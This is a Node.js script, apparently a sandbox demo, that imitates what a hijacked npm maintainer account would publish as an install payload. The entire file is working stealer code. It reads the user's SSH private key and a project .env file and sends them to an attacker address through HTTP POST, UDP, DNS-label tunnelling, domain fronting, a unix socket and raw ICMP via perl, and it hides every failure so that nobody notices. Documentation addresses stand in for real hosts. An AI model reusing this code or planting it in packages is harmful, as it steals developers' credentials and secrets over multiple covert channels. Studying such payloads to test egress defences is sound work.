// What a stolen maintainer account publishes: read what is worth reading, send it
// by every way out there is, and never fail, so that nobody looks. Names and addresses
// are those for documentation; the demo gives them to namespaces.
const dgram = require('dgram');
const dns = require('dns');
const fs = require('fs');
const http = require('http');
const https = require('https');
const net = require('net');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const ATTACKER = '203.0.113.66';
const beacon = 'loot-of-left-padder';
const attempts = [];

async function attempt(what, how) {
  let result = 'done';
  try {
    await how();
  } catch (e) {
    result = e.code || e.message;
  }
  attempts.push({ what, result });
}

const loot = [];
const project = process.env.INIT_CWD;
const steal = (file) => () => loot.push(fs.readFileSync(file, 'utf8'));
const payload = () => `${beacon}\n${loot.join('\n')}`;

const late = (s, no) => s.setTimeout(5000, () => s.destroy(no(new Error('no answer'))));

const post = () => new Promise((yes, no) => {
  const r = http.request({ host: ATTACKER, method: 'POST', path: '/' }, (res) => {
    res.resume().on('end', yes);
  });
  late(r.on('error', no), no).end(payload());
});

const datagram = () => new Promise((yes, no) => {
  const s = dgram.createSocket('udp4');
  s.on('error', no);
  s.send(payload(), 9999, ATTACKER, (e) => { s.close(); e ? no(e) : yes(); });
});

// The name carries the data; whoever answers for attacker.example reads it.
const label = (zone, server) => new Promise((yes, no) => {
  const data = Buffer.from(payload()).toString('hex').slice(-60);
  const r = new dns.Resolver({ timeout: 10000, tries: 1 });
  if (server)
    r.setServers([server]);
  r.resolve4(`${data}.${beacon}.${zone}`, (e) => (e ? no(e) : yes()));
});

// A site of the attacker's on the address that the packages come from.
const front = () => new Promise((yes, no) => {
  const site = 'drop.attacker.example';
  const r = https.get({
    host: 'npm.corp.example',
    servername: site,
    headers: { Host: site },
    path: `/${Buffer.from(payload()).toString('base64url')}`,
    rejectUnauthorized: false,
    agent: false,
  }, (res) => {
    res.resume().on('end', yes);
  });
  late(r.on('error', no), no);
});

const unix = () => new Promise((yes, no) => {
  const s = net.connect('/run/collector.sock');
  late(s.on('error', no).on('close', yes), no).end(payload());
});

const raw = () => {
  const script = `use Socket;
    socket(my $s, PF_INET, SOCK_RAW, 1) or exit 0+$!;
    send($s, $ARGV[0], 0, sockaddr_in(0, inet_aton("${ATTACKER}"))) or exit 0+$!;`;
  const r = spawnSync('perl', ['-e', script, payload()]);
  if (r.status)
    throw Object.assign(new Error(), { code: os.constants.errno.EPERM === r.status ? 'EPERM' : `errno ${r.status}` });
};

(async () => {
  await attempt('read ~/.ssh/id_ed25519', steal(path.join(os.homedir(), '.ssh/id_ed25519')));
  await attempt('read .env', steal(path.join(project, '../.env')));
  await attempt('post it over TCP', post);
  await attempt('send it over UDP', datagram);
  await attempt('hide it in a DNS label', () => label('attacker.example'));
  await attempt("ask the attacker's DNS server", () => label('direct.attacker.example', ATTACKER));
  await attempt('take it to another site there', front);
  await attempt('hand it to a unix socket', unix);
  await attempt('send it by a raw socket', raw);
  fs.writeFileSync(path.join(project, 'node_modules/.attempts.json'), JSON.stringify(attempts));
})();
